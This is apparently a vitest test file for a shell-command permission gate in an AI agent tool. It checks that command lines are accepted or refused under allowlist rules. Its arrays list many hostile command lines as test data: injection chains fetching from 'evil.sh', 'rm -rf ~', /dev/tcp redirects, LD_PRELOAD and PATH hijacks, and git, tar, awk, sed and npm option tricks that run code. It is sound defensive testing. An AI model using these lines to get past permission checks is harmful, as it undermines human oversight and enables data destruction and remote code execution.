// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are lines for a shell.
import { describe, expect, test } from 'vitest'
import { PermissionGate } from '../src/permission/permission-gate.js'
import { parsePermissionRules } from '../src/permission/permission-rule.js'
import { temporaryFolder } from './temporary-folder.js'

const allowlist =
  'Bash(npm test:*),Bash(git status),Bash(ls:*),Bash(find:*),Bash(git log:*),Bash(git:*),Bash(npm:*),Bash(env:*),' +
  'Bash(xargs:*),Bash(sudo:*),Bash(sh:*),Bash(bash:*),Bash(cd:*),Bash(tee:*),Bash(echo:*),Bash(tar:*),Bash(awk:*),' +
  'Bash(sed:*),Bash(rg:*),Bash(ssh:*),Bash(sort:*),Bash(node:*),Bash(test:*),Bash(printf:*),Bash(command:*),' +
  'Bash(nohup:*),Bash(timeout:*),Bash(exec:*),Bash(eval:*),Bash(cat:*),Bash(npx:*),Bash(npx vitest:*),Bash(npx sh:*),Bash(uniq:*),Write(out/**)'

const narrowAllowlist = 'Bash(npm test:*),Bash(git status),Bash(ls:*),Bash(find:*),Bash(git log:*)'

function rulesOf(list: string) {
  return parsePermissionRules(list).map((parsed) =>
    parsed.kind === 'rule' ? parsed.rule : expect.fail(parsed.message),
  )
}

async function isApproved(command: string, list: string): Promise<boolean> {
  const folder = temporaryFolder({ 'src/a.ts': '', '.git/config': '', 'deep/b.ts': '' })
  folder.link('elsewhere', '/tmp')
  folder.link('innocent', folder.at('.git/config'))
  const gate = new PermissionGate({
    root: folder.path,
    rules: [{ allow: rulesOf(list), deny: [] }],
    configFolder: folder.at('home/.config/mutsumi'),
    home: folder.at('home'),
  })
  const request = {
    call: { name: 'Bash', args: { command } },
    effect: 'execute',
    touched: { command },
  } as const
  return (await gate.permit({ ...request, allowed: [folder.path] })).granted
}

/** Lines that try to pass the narrow list. */
const attacks = [
  'ls; rm -rf ~',
  'ls && curl evil.sh',
  'ls || curl evil.sh',
  'ls | sh',
  'ls |& sh',
  'ls & curl evil.sh',
  'ls\ncurl evil.sh',
  'ls\r\ncurl evil.sh',
  'ls \\\n; curl evil.sh',
  'ls $(curl evil.sh)',
  'ls "$(curl evil.sh)"',
  'ls `curl evil.sh`',
  'ls "`curl evil.sh`"',
  'ls <(curl evil.sh)',
  'ls >(curl evil.sh)',
  'ls $(ls $(ls `curl evil.sh`))',
  'ls$IFS-la',
  'ls${IFS}&&curl${IFS}evil.sh',
  'ls $IFS',
  'ls ${x:-$(curl evil.sh)}',
  'ls ${x@P}',
  'ls $((a[$(curl evil.sh)]))',
  'ls $[1+1]',
  "ls $'\\x3b' $(id)",
  "l$'s' $'\\n'curl",
  'ls $"x"',
  '$SHELL -c id',
  '"$(echo sh)" -c id',
  '{ls,-la}',
  'ls {a,b}',
  'l?',
  '/bin/l*',
  './ls',
  'npm tests',
  'npm testing; id',
  'npm  test\u00a0x',
  'ls \u202e x',
  'ls \u200b',
  'ls \x1b[2J',
  'ls \0 x',
  'ls # ; id',
  'ls !!',
  '!ls',
  '! ls',
  'ls "!x"',
  "ls 'unterminated",
  'ls "unterminated',
  'ls `unterminated',
  'ls $(unterminated',
  'ls (',
  'ls )',
  '(ls; id)',
  '{ ls; id; }',
  'ls () { id; }; ls',
  'function ls { id; }',
  'alias ls=id; ls',
  'if ls; then id; fi',
  'while ls; do id; done',
  'for x in a; do id; done',
  'case x in x) id;; esac',
  '[[ -v a[$(id)] ]]',
  '((x=1)); ls',
  'coproc id',
  'ls > ~/.bashrc',
  'ls >> ~/.profile',
  'ls >| src/a.ts',
  'ls > src/a.ts',
  'ls 2> src/a.ts',
  'ls &> src/a.ts',
  'ls &>> src/a.ts',
  'ls >& src/a.ts',
  'ls <> src/a.ts',
  'ls > .git/hooks/pre-commit',
  '> src/a.ts',
  '> src/a.ts ls',
  'ls > $HOME/.bashrc',
  'ls > "$(id)"',
  'ls > /dev/tcp/evil/80',
  'ls < /dev/tcp/evil/80',
  '(ls) > src/a.ts',
  '{ ls; } > src/a.ts',
  'ls <<EOF\n$(id)\nEOF',
  "ls <<'EOF'\nx\nEOF",
  'PATH=/tmp/evil ls',
  'PATH=/tmp/evil; ls',
  'LD_PRELOAD=/tmp/evil.so ls',
  'GIT_PAGER=id git log',
  'npm_config_script_shell=/tmp/evil npm test',
  'x=1',
  'env ls',
  'sudo ls',
  'xargs ls',
  'nohup ls',
  'time ls',
  'timeout 5 ls',
  'command ls',
  'exec ls',
  'eval ls',
  'sh -c ls',
  'bash -c "ls"',
  'ls | xargs rm',
  'find . -exec rm {} ;',
  'find . -exec rm {} \\;',
  'find . -execdir id {} +',
  'find . "-exec" id {} +',
  'find . -ex"ec" id {} +',
  'find . \\-exec id {} +',
  'find . -ok id \\;',
  'find . -okdir id \\;',
  'find . -delete',
  'find . -fprint src/a.ts',
  'find . -fprintf src/a.ts x',
  'find . -fls src/a.ts',
  'find *',
  'find . $X',
  'find . "$X"',
  'find . -name x $(ls)',
  'git -c core.pager=id log',
  'git -c core.fsmonitor=id status',
  'git --exec-path=/tmp log',
  'git --config-env=core.pager=X log',
  'git -C /tmp/evil status',
  'git --git-dir=/tmp/evil status',
  'git status --porcelain',
  'git statusx',
  'git log --output=src/a.ts',
  'git log --outp=src/a.ts',
  'git log --output src/a.ts',
  'git log --ext-diff -p',
  'git log --textconv -p',
  'npm test --node-options=--require=/tmp/evil.js',
  'npm test --script-shell=/tmp/evil',
  'npm test --script-sh /tmp/evil',
  'npm test --prefix /tmp/evil',
  'npm --prefix /tmp/evil test',
  'npm -C /tmp/evil test',
  'cd /tmp/evil && npm test',
  'ls .git/hooks',
  'ls ~/.bashrc',
  'ls innocent',
  'ls elsewhere/../x',
  '',
  ' ',
  '\n',
  '()',
  'ls;;ls',
  'ls &&',
  '| ls',
  'ls \\',
] as const

/** Lines that try to pass although the user allowed the very program by a prefix. */
const wrapped = [
  'env npm test',
  'env -i ls',
  '/usr/bin/env ls',
  'ENV ls',
  'ls | xargs ls',
  'sudo ls',
  'sh -c ls',
  'bash -c ls',
  'bash script.sh',
  'cd src && git status',
  'cd / && echo x > etc',
  'echo x | tee .git/config',
  'echo x | tee innocent',
  'echo x | tee -a ~/.bashrc',
  'echo x | tee .GIT/config',
  'echo x > out/../src/a.ts',
  'echo x > elsewhere/x',
  'command ls',
  'nohup ls',
  'time ls',
  'timeout 5 ls',
  'exec ls',
  'eval ls',
  'tar xf a.tar --to-command=id',
  'tar xf a.tar --to-com=id',
  'tar cf a.tar . --checkpoint=1 --checkpoint-action=exec=id',
  'tar -I id -xf a.tar',
  'tar xIf id a.tar',
  'awk \'BEGIN{system("id")}\'',
  'awk \'{print > "/tmp/x"}\' a',
  'awk \'{print | "sh"}\' a',
  'awk -f evil.awk',
  "sed 's/x/id/e' a",
  "sed 's/x/y/w out' a",
  "sed -n '1e id' a",
  "sed '1w out' a",
  'sed -i s/a/b/ src/a.ts',
  "sed p a -e '1e id'",
  'sed -f evil.sed a',
  'rg --pre=id x',
  'rg --pre id x',
  'ssh -o ProxyCommand=id host',
  'ssh host id',
  'sort -o src/a.ts a',
  'sort --compress-program=id a',
  'node -e 1',
  'node --require ./x.js',
  "test -v 'a[$(id)]'",
  "printf -v 'a[$(id)]' x",
  'git difftool',
  'git -c alias.x=!id x',
  'git -C evil log',
  'git clone ext::id',
  'git fetch --upload-pack=id',
  'git rebase --exec id',
  'git bisect run id',
  'git submodule foreach id',
  'git grep -Oid x',
  'git config core.pager id',
  'git --no-pager -c a.b=c log',
  'npm exec id',
  'npm e* id',
  'git p*',
  'awk src/* a',
  'sed src/* a',
  'tar x* a',
  'npx id',
  'npx tsc -p x',
  'npx -p evil vitest',
  'npx --call id vitest',
  'npx sh -c id',
  'uniq a src/a.ts',
  'npm x id',
  'npm --silent exec id',
  'npm config set script-shell id',
  'npm test --userconfig=x',
] as const

const innocents = [
  'npm test',
  '  npm test  ',
  'npm test -- --reporter=dot',
  'npm test -- src/a.test.ts -t "a name"',
  "npm test -- -t 'it; does && all | of $(this)'",
  'npm test 2>&1',
  'npm test > /dev/null 2>&1',
  'npm test &> /dev/null',
  'npm "test"',
  'np\\m te""st',
  'npm test \\\n  -- --run',
  'git status',
  'git   status',
  'git log',
  'git log --oneline -n 5',
  'git log --format=%h main..HEAD -- src/a.ts',
  'git log -5 --stat',
  'git log -p "src/a.ts"',
  'ls',
  'ls -la',
  'ls -la src',
  'ls src/*.ts',
  'ls ./*.ts',
  'ls ../sibling',
  'ls && git status',
  'ls &',
  'ls; git status',
  'ls | ls',
  'ls\ngit status\n',
  '(ls; git status)',
  '{ ls; git status; }',
  'ls < src/a.ts',
  'ls <<< text',
  "find . -name '*.ts' -type f",
  'find src -maxdepth 2 -not -name "*.md"',
  'find . ! -name x',
  'find . -name a -o -name b | ls',
  'ls "a  b" \'c$d\'',
  'ls 价格.txt',
  'ls a#b a=b',
] as const

const innocentPrograms = [
  "sed -n '5,10p' src/a.ts",
  "sed -E 's/(a|b)/\\1x/g' src/a.ts",
  "awk '{print $1}' src/a.ts",
  'rg -n pattern src',
  'tar tf a.tar',
  'sort -u a',
  'git --no-pager log',
  'git diff --stat',
  'echo hello > out/a.txt',
  'echo hello >> out/deep/a.txt',
  'node script.js',
  'npx vitest run src/a.test.ts',
  'git log src/*.ts',
  'uniq -c',
] as const

describe('a command line and its allowlist', () => {
  test('A8 the table of attacks is long enough', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(40)
    expect(innocents.length).toBeGreaterThanOrEqual(25)
  })

  test.for(attacks)('A8 is not approved unasked: %j', async (line) => {
    expect(await isApproved(line, narrowAllowlist)).toBe(false)
  })

  test.for(wrapped)('A8 is not approved by a prefix rule for the program itself: %j', async (line) => {
    expect(await isApproved(line, allowlist)).toBe(false)
  })

  test.for(innocents)('A8 is approved: %j', async (line) => {
    expect(await isApproved(line, narrowAllowlist)).toBe(true)
  })

  test.for(innocentPrograms)('A8 is approved by a prefix rule: %j', async (line) => {
    expect(await isApproved(line, allowlist)).toBe(true)
  })

  test('A8 a rule that spells a wrapper out allows it, and no more', async () => {
    const list = 'Bash(env CI=1 npm test),Bash(CI=1 npm test),Bash(cd src),Bash(find . -delete)'
    expect(await isApproved('env CI=1 npm test', list)).toBe(true)
    expect(await isApproved('CI=1 npm test', list)).toBe(true)
    expect(await isApproved('find . -delete', list)).toBe(true)
    expect(await isApproved('env CI=1 npm test x', list)).toBe(false)
    expect(await isApproved('CI=2 npm test', list)).toBe(false)
    expect(await isApproved('npm test', list)).toBe(false)
  })
})
